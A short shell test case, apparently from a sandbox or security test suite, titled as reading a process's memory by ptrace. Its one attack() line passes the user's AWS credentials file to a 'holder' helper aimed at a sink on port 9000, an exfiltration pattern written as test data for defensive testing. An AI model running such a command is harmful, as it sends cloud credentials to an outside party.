# SPDX-License-Identifier: Apache-2.0
TITLE="words of a holder's memory by ptrace"
attack() { "$PROVOKE/holder" peek "$HOME/.aws/credentials" "$SINK4" 9000; }
